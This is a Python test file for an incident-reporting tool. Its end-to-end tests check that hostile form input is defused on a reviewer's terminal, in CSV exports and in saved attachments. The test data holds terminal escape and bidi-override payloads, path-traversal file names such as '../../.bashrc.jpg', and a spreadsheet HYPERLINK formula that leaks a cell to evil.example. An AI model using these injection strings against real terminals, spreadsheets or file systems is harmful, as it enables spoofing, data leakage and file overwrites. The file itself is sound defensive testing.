"""Hostile text and file names, from the public form to the reviewer's desk, end to end.

Anyone who finds the form can type escape sequences, bidirectional
overrides and spreadsheet formulas, and name their files ``../../.bashrc``.
Here they go through a real ``reporter serve``, the real ``reporter export``,
and the reviewer's real ``reporter verify`` / ``review import`` / ``list`` /
``show`` / ``stats`` / ``export --format csv`` / ``attachments``: the
terminal never receives a control character (C0, C1 or a bidi override),
no CSV cell starts a formula, the sealed file names carry no folder or
control character, and every file is written inside ``--out``. A station
running modified software (the threat model's malicious operator) can seal
any name: the reviewer's side cleans it again.

Each test fails when one check is switched off (``tests/mutants.py``:
``terminal-cleaning``, ``terminal-c1``, ``terminal-bidi``, ``csv-guard``,
``station-file-name-*``, ``review-file-name``); ``docs/testing.md``,
"Mutation checks", lists which tests caught each before.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import unicodedata
from dataclasses import replace
from pathlib import Path

import pytest
import requests

from reporter.formats.report import Report
from reporter.station.intake import build_report
from reporter.station.submission import Draft, Limits
from reporter.storage.blobs import BlobStore
from tests.conftest import Station, form_token, start_server, valid_report
from tests.e2e.test_e2e import RECEIPT_RE
from tests.e2e.test_recipients import Cli, Field, Reviewer, make_field_station

pytestmark = pytest.mark.slow

# What must never reach the reviewer's terminal: C0 (ESC, BEL, CR), C1 (CSI, OSC, DCS,
# ST: terminals that honour 8-bit controls act on them) and bidi overrides/isolates.
FORBIDDEN = "\x1b\x07\r\x9b\x9d\x90\x9c\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069"
HOSTILE = ("\x1b]0;pwned\x07\x1b[2J \x9b2J \x9d0;osc\x9c \x90dcs\x9c "
           "\u202eevil\u202c \u2066isolated\u2069 line\rtwo")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + hashlib.shake_256(b"photo").digest(300_000)
PDF = b"%PDF-1.7\n" + hashlib.shake_256(b"statement").digest(200_000)


@pytest.fixture
def field_station(tmp_path: Path) -> Field:
    """A station with three reviewers (``test_recipients.ADDED``), made with the CLI."""
    return make_field_station(tmp_path)


def review(cli: Cli, reviewer: Reviewer, *args: str) -> tuple[int, str, str]:
    return cli("review", "--review-db", str(reviewer.review_db), *args)


def export_and_import(cli: Cli, reviewer: Reviewer, bundle: Path) -> str:
    """Export the station's reports; ``reviewer`` verifies and imports them. Both outputs."""
    code, out, err = cli("export", "--out", str(bundle))
    assert code == 0, err
    code, verified, err = cli("verify", str(bundle), "--key", str(reviewer.key_file))
    assert code == 0, err
    code, imported, err = review(cli, reviewer, "import", str(bundle), "--key",
                                 str(reviewer.key_file))
    assert code == 0, err
    return out + verified + imported


def sealed_reports(cli: Cli, reviewer: Reviewer) -> list[dict[str, object]]:
    code, out, err = review(cli, reviewer, "export", "--format", "jsonl")
    assert code == 0, err
    return [json.loads(line) for line in out.splitlines()]


def assert_clean(output: str, where: str) -> None:
    found = sorted({f"U+{ord(c):04X}" for c in output if c in FORBIDDEN})
    assert not found, f"{where} sent {', '.join(found)} to the terminal"


def assert_written_inside(out_dir: Path, expected: list[bytes]) -> None:
    """``expected`` files, in order, all directly in ``out_dir`` with harmless names."""
    written = sorted(out_dir.iterdir(), key=lambda p: int(p.name.split("-", 1)[0]))
    assert [p.read_bytes() for p in written] == expected
    for path in written:
        assert path.parent == out_dir and not path.is_symlink()
        assert not any(unicodedata.category(c)[0] == "C" or c in FORBIDDEN
                       for c in path.name), repr(path.name)
        assert not path.name.startswith(".") and "/" not in path.name, repr(path.name)
    assert not any(p.exists() for p in (out_dir.parent / ".bashrc.jpg",
                                        out_dir.parent.parent / ".bashrc.jpg"))


def test_hostile_text_from_the_form_is_defused_on_the_reviewers_terminal_and_in_csv(
        field_station: Field, tmp_path: Path) -> None:
    station, cli = field_station.station, field_station.cli
    zawadi = field_station.reviewers[0]
    formulas = {"location": '=HYPERLINK("http://evil.example/?"&B2,"map")',
                "date_approximate": "@SUM(1+1)", "site_other": "-2+3",
                "contact_details": "+243 81 000 0000"}
    server = start_server(station, tmp_path)
    try:
        session = requests.Session()
        token = form_token(session.get(server.url + "/", timeout=10).text)
        response = session.post(server.url + "/", timeout=60, data={
            "form_token": token, **valid_report(
                description=HOSTILE, site="other", contact="contact", incident_day="",
                incident_month="", incident_year="",
                incident_types=["shooting", "other"], **formulas)},
            files=[("attachments", ("photo \x1b[8m.jpg", JPEG, "image/jpeg"))])
        assert response.status_code == 200, response.text[:300]
        assert RECEIPT_RE.search(response.text)
    finally:
        server.stop()

    assert_clean(export_and_import(cli, zawadi, tmp_path / "1.rptr"), "export/verify/import")
    [sealed] = sealed_reports(cli, zawadi)
    assert sealed["report"]["fields"]["description"] == HOSTILE  # type: ignore[index]
    for args in (("list",), ("show", "1"), ("stats",),
                 ("attachments", "1", "--out", str(tmp_path / "files"))):
        code, out, err = review(cli, zawadi, *args)
        assert code == 0, err
        assert_clean(out + err, f"review {args[0]}")
    code, out, _ = review(cli, zawadi, "show", "1")
    assert "evil" in out and "isolated" in out and "two" in out  # shown, defused

    code, out, err = review(cli, zawadi, "export", "--format", "csv")
    assert code == 0, err
    [row] = list(csv.DictReader(io.StringIO(out, newline="")))
    for column, value in row.items():
        assert not value.startswith(FORMULA_START), f"{column}: {value!r} starts a formula"
    for column, value in formulas.items():
        assert value in row[column], (column, row[column])


def test_file_names_from_the_form_are_sealed_without_folders_or_controls(
        field_station: Field, tmp_path: Path) -> None:
    station, cli = field_station.station, field_station.cli
    zawadi = field_station.reviewers[0]
    names = ["../../.bashrc.jpg", "C:\\Users\\amina\\DCIM\\statement.pdf",
             "evil\x1b]0;title\x07\u202egpj.pdf"]
    server = start_server(station, tmp_path)
    try:
        session = requests.Session()
        token = form_token(session.get(server.url + "/", timeout=10).text)
        response = session.post(
            server.url + "/", data={"form_token": token, **valid_report()}, timeout=60,
            files=[("attachments", (names[0], JPEG, "image/jpeg")),
                   ("attachments", (names[1], PDF, "application/pdf")),
                   ("attachments", (names[2], PDF, "application/pdf"))])
        assert response.status_code == 200, response.text[:300]
    finally:
        server.stop()

    export_and_import(cli, zawadi, tmp_path / "1.rptr")
    [sealed] = sealed_reports(cli, zawadi)
    listed = [a["name"] for a in sealed["report"]["attachments"]]  # type: ignore[index]
    for name in listed:
        assert not any(c in "/\\" or unicodedata.category(c)[0] == "C" for c in name), name
    # (Werkzeug drops the backslashes of a quoted file name before the station sees it.)
    assert listed[0] == "bashrc.jpg" and listed[1].endswith("statement.pdf")
    assert listed[2] == "evil]0;titlegpj.pdf"
    out_dir = tmp_path / "evidence" / "report-1"
    code, out, err = review(cli, zawadi, "attachments", "1", "--out", str(out_dir))
    assert code == 0, err
    assert_clean(out + err, "review attachments")
    assert_written_inside(out_dir, [JPEG, PDF, PDF])


def seal_with_raw_names(station: Station, files: list[tuple[str, bytes]]) -> None:
    """What a station running modified software can do: seal its own names, uncleaned,
    to the real reviewers, under its real signing key (export signs what it holds)."""
    with station.store() as store, BlobStore.open(station.path, station.key) as blobs:
        recipients = [r.public_key for r in store.recipients()]
        draft = Draft(blobs, Limits(max_bytes=1 << 30, max_count=20))
        for name, data in files:
            assert draft.add(name, data).problem is None
        raw = tuple(replace(info, name=name)
                    for info, (name, _data) in zip(draft.attachments(), files, strict=True))
        report: Report = replace(build_report(valid_report(), "en"), attachments=raw)
        store.append_report(draft.seal(report, recipients), station.station_id)
        draft.close()


def test_names_a_modified_station_sealed_are_cleaned_again_on_the_reviewers_disk(
        field_station: Field, tmp_path: Path) -> None:
    station, cli = field_station.station, field_station.cli
    amina = field_station.reviewers[1]
    files = [("evil\x1b]0;title\x07\u202egpj.pdf", PDF), ("\x9b2J.jpg", JPEG),
             ("../../.bashrc.jpg", JPEG)]
    seal_with_raw_names(station, files)

    assert_clean(export_and_import(cli, amina, tmp_path / "1.rptr"), "export/verify/import")
    [sealed] = sealed_reports(cli, amina)
    assert [a["name"] for a in sealed["report"]["attachments"]] == [  # type: ignore[index]
        name for name, _ in files]  # the names arrived as the station sealed them
    for args in (("show", "1"), ("list",)):
        code, out, err = review(cli, amina, *args)
        assert code == 0, err
        assert_clean(out + err, f"review {args[0]}")
    out_dir = tmp_path / "evidence" / "report-1"
    code, out, err = review(cli, amina, "attachments", "1", "--out", str(out_dir))
    assert code == 0, err
    assert_clean(out + err, "review attachments")
    assert_written_inside(out_dir, [data for _name, data in files])
